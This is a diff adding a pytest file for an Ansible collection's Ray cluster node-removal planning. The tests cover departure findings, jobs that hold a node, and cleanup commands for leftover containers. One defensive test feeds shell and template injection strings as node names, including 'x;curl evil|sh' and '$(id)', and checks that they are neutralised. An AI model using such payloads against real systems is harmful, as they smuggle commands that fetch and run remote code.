@@ -1,0 +1,183 @@
+from __future__ import annotations
+
+from dataclasses import replace
+from typing import Any
+
+import pytest
+from ansible_collections.argus.verl.plugins.module_utils.argus.common.findings import ERROR, WARNING
+from ansible_collections.argus.verl.plugins.module_utils.cluster.machine import Machine, PlannedMachine, ProbedMachine
+from ansible_collections.argus.verl.plugins.module_utils.cluster.node_process import FoundProcess
+from ansible_collections.argus.verl.plugins.plugin_utils.plan.departure import (
+    ODD_NAME,
+    Departure,
+    departure,
+    departure_findings,
+    hold_findings,
+    left_behind,
+    outside_notes,
+)
+from samples import HEALTHY, PROCESS_HOST, container
+
+INVENTORY = ["ray-head", "worker-0", "worker-1"]
+MACHINES = {
+    "ctl": replace(HEALTHY, containers={"ray-head": container()}),
+    "gpu-0": replace(HEALTHY, containers={"worker-0": container(), "registry": container(None)}),
+    "gpu-1": replace(HEALTHY, containers={"worker-1": container(state="exited"), "worker-9": container()}),
+}
+
+
+def planned(machines: dict[str, Machine]) -> dict[str, PlannedMachine]:
+    return {
+        name: PlannedMachine.of(ProbedMachine(name, [], machine), "", "", INVENTORY)
+        for name, machine in machines.items()
+    }
+
+
+def ray_node(name: str, node_id: str = "1", state: str = "ALIVE", start: int = 0) -> dict[str, Any]:
+    resources = {"worker_node": 100.0}
+    return {
+        "node_name": name, "node_id": node_id, "state": state, "start_time_ms": start, "node_ip": "10.0.0.9",
+        "resources_total": resources,
+    }  # fmt: skip
+
+
+def leave(node: str, *nodes: dict[str, Any], given: str = "", **machines: Any) -> Departure:
+    return departure(node, nodes, planned(MACHINES | machines), given, INVENTORY, "ctl")
+
+
+def test_worker_of_the_inventory() -> None:
+    nodes = [ray_node("worker-0", "old", start=1), ray_node("worker-0", "new", start=2), ray_node("worker-1", "x")]
+    assert leave("worker-0", *nodes) == Departure("worker-0", "gpu-0", "new", runs=True, last=True, in_inventory=True)
+    assert leave("worker-0", *reversed(nodes)).node_id == "new"
+
+
+def test_worker_that_is_dead_in_ray() -> None:
+    found = leave("worker-1", ray_node("worker-1", state="DEAD"))
+    assert found == Departure("worker-1", "gpu-1", "", runs=False, last=False, in_inventory=True)
+
+
+def test_worker_that_left_the_inventory() -> None:
+    found = leave("worker-9", ray_node("worker-9"))
+    assert found == Departure("worker-9", "gpu-1", "1", runs=True, last=False, in_inventory=False)
+    # With its machine: a host that Ansible reaches can be named.
+    assert leave("worker-8", ray_node("worker-8")).machine == ""
+    assert leave("worker-8", ray_node("worker-8"), given="10.0.0.9") == Departure(
+        "worker-8", "10.0.0.9", "1", runs=True
+    )
+
+
+def test_token_stays_on_the_machine_of_the_head() -> None:
+    assert leave("worker-0").last
+    both = replace(HEALTHY, containers={"worker-0": container()})
+    assert not leave("worker-0", **{"gpu-0": HEALTHY, "ctl": both}).last
+
+
+def refusals(leaving: Departure, **silent: str) -> list[tuple[str, str]]:
+    found = departure_findings(leaving, ["ray-head"], [*INVENTORY, "worker-8"], silent, "gpu_0")
+    assert all(finding.severity == ERROR for finding in found)
+    return [(finding.what, finding.todo) for finding in found]
+
+
+def test_what_cannot_be_taken_out() -> None:
+    assert refusals(leave("worker-0", ray_node("worker-0"))) == []
+    assert refusals(leave("worker-1")) == []
+    assert refusals(leave(""))[0][0] == "is not given"
+    assert refusals(leave("ray-head", ray_node("ray-head")))[0][0].startswith("is the head")
+    assert refusals(leave("worker-7"))[0] == (
+        "is neither alive in Ray nor on a machine of the inventory",
+        'did you mean "worker-8"?',
+    )
+    ((what, todo),) = refusals(leave("worker-8", ray_node("worker-8")))
+    assert what.endswith("removed from Ray only, it would come back") and "-e drain_machine=HOST" in todo
+    ((what, _todo),) = refusals(leave("worker-8", ray_node("worker-8")), gpu_2="off")
+    assert "gpu_2 did not answer" in what
+
+
+def test_worker_that_is_out_already() -> None:
+    out = leave("worker-0", **{"gpu-0": HEALTHY})
+    assert out.gone and out.to_json()["gone"]
+    (found,) = departure_findings(out, ["ray-head"], INVENTORY, {"gpu_1": "off"}, "gpu_0")
+    assert (found.what, found.severity) == ("is out already: neither alive in Ray nor on its machine", WARNING)
+    ((what, todo),) = refusals(out, gpu_0="does not answer: off")
+    assert what == "is not alive in Ray, and its machine gpu_0 does not answer: off"
+    assert "again when it answers" in todo
+    assert not leave("worker-0").gone
+    assert not leave("worker-8", ray_node("worker-8")).gone
+
+
+def test_jobs_that_hold_a_node() -> None:
+    assert hold_findings("worker-0", [], 5, False) == []
+    assert hold_findings("worker-0", [], 0, False, 3600) == []
+    (found,) = hold_findings("worker-0", ["grpo-1", "sft-2"], 0, False, 3600.0)
+    assert found.severity == WARNING
+    assert found.what == "would get no new work, and wait up to 3600 s for grpo-1, sft-2 before it is removed"
+    assert "-e allow_disruption=true" in found.todo
+    (found,) = hold_findings("worker-0", ["grpo-1"], 0, True, 3600.0)
+    assert (found.what, found.severity) == ("its removal ends grpo-1", WARNING)
+    (found,) = hold_findings("worker-0", ["grpo-1", "sft-2"], 5.4, False)
+    assert (found.what, found.severity) == ("is still used after 5 s by grpo-1, sft-2", ERROR)
+    assert "-e allow_disruption=true" in found.todo
+    (found,) = hold_findings("worker-0", ["grpo-1"], 0, True)
+    assert (found.what, found.severity) == ("its removal ends grpo-1", WARNING)
+
+
+def test_nodes_that_a_removed_cluster_leaves_behind() -> None:
+    nodes = [ray_node("worker-0"), ray_node("worker-9"), ray_node("worker-8"), ray_node("worker-7", state="DEAD")]
+    (found,) = left_behind(nodes, planned(MACHINES).values(), "mvp", INVENTORY)
+    assert (found.where, found.severity) == ("worker-8", WARNING)
+    # Of a container with this name only if it is the cluster's: jobs name the nodes that they start.
+    listed = "ps -aq --filter label=argus.verl.cluster=mvp --filter name=^worker-8$"
+    assert found.todo == f"on its machine: docker rm -fv $(docker {listed})"
+    podman = {name: replace(there, engine=replace(there.engine, name="podman")) for name, there in MACHINES.items()}
+    assert left_behind(nodes, planned(podman).values(), "mvp", INVENTORY)[0].todo.startswith(
+        "on its machine: podman rm "
+    )
+
+
+@pytest.mark.parametrize("name", ["x;curl evil|sh", "{{lookup('pipe','id')}}", "a b", "-x", "a\nb", "$(id)", ""])
+def test_no_command_has_a_name_that_a_shell_or_ansible_would_evaluate(name: str) -> None:
+    for machines in (MACHINES, PROCESSES):
+        (found,) = left_behind([ray_node(name)], planned(machines).values(), "mvp", INVENTORY)
+        assert found.todo == ODD_NAME
+        assert "\n" not in found.where
+    (note,) = outside_notes([name], INVENTORY)
+    assert note.endswith(f"counted as room: {ODD_NAME}")
+    assert "\n" not in note
+
+
+def test_containers_of_another_cluster_stay() -> None:
+    machine = replace(HEALTHY, containers={"worker-0": container(), "worker-9": container()})
+    (found,) = left_behind([], planned({"gpu-0": replace(machine, cluster="mpv")}).values(), "mpv", INVENTORY)
+    assert (found.where, found.severity) == ("worker-0", WARNING)
+    assert found.what == "is a container of cluster mvp on gpu-0, and not of cluster mpv: it is not removed"
+    assert found.todo == "if this is its inventory, set cluster_name: mvp"
+    bare = replace(machine, containers={"worker-0": replace(container(), labels={})})
+    (found,) = left_behind([], planned({"gpu-0": bare}).values(), "mvp", INVENTORY)
+    assert found.what == "is a container of another owner on gpu-0, and not of cluster mvp: it is not removed"
+    assert found.todo == ""
+
+
+# worker-9 has left the inventory, and its files are still on the host of worker-0.
+PROCESSES = {
+    "ctl": replace(HEALTHY, process=replace(PROCESS_HOST, directory="/nodes/ray-head", node=FoundProcess("running"))),
+    "worker-0": replace(HEALTHY, process=replace(PROCESS_HOST, node=FoundProcess("running"), neighbours=["worker-9"])),
+    "worker-1": replace(HEALTHY, process=replace(PROCESS_HOST, directory="/nodes/worker-1")),
+}
+
+
+def test_process_of_the_inventory() -> None:
+    nodes = [ray_node("worker-0", "x")]
+    found = departure("worker-0", nodes, planned(PROCESSES), "", INVENTORY, "ctl")
+    assert found == Departure("worker-0", "worker-0", "x", runs=True, last=False, in_inventory=True)
+    alone = {**PROCESSES, "worker-0": replace(HEALTHY, process=replace(PROCESS_HOST, node=FoundProcess("stopped")))}
+    found = departure("worker-0", nodes, planned(alone), "", INVENTORY, "ctl")
+    assert (found.runs, found.last) == (False, True)
+    # Of this one, the host has nothing.
+    assert departure("worker-1", [], planned(PROCESSES), "", INVENTORY, "ctl").machine == ""
+
+
+def test_process_that_stays() -> None:
+    (finding,) = left_behind(
+        [ray_node("worker-8"), ray_node("worker-9")], planned(PROCESSES).values(), "mvp", INVENTORY
+    )
+    assert (finding.where, finding.todo) == ("worker-8", "on its host: pkill -f nodes/worker-8/supervisor.py")
